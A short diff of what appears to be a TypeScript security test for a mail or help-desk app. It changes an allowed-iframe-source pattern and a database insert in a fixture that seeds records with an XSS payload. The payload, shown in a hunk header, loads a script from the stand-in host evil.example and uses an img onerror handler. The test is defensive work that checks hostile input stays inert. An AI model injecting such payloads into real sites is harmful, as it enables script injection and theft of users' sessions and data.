@@ -11,7 +11,7 @@ const PAYLOAD = `"'><script src=//evil.example/${MARK}></script><img src=x onerr
 
 const OWN_SOURCES: Record<string, RegExp> = {
   script: /^\/assets\//,
-  iframe: /^\/messages\/\d+\/body(\?images=[\w-]{22})?$/,
+  iframe: /^\/messages\/\d+\/body(\?images=[\w-]{22}&sender=always)?$/,
 };
 const RUNNING = /^(on|hx-on|data-hx-)/;
 const ACTING = /^(on.*|hx-.*|href|src|style|action|formaction)$/;
@@ -100,7 +100,7 @@ async function hostileCompany(): Promise<{ desk: Desk; c: number; m: number; d: 
   }
   const waitingRaw = desk.row<{ id: number }>('SELECT raw_id AS id FROM message ORDER BY id DESC LIMIT 1').id;
   desk.rows("UPDATE message SET kind = 'out' WHERE raw_id = ?", waitingRaw);
-  desk.rows("INSERT INTO recipient VALUES (?, ?, 'failed', 1, 1, NULL, ?, 1)", waitingRaw, PAYLOAD, PAYLOAD);
+  desk.rows("INSERT INTO recipient VALUES (?, ?, 'failed', 1, 1, NULL, ?, 1, NULL)", waitingRaw, PAYLOAD, PAYLOAD);
   const d = await hand(ada).open(c);
   await hand(ada).save(d, PAYLOAD, 0, PAYLOAD);
   await hand(ada).attach(d, PAYLOAD);
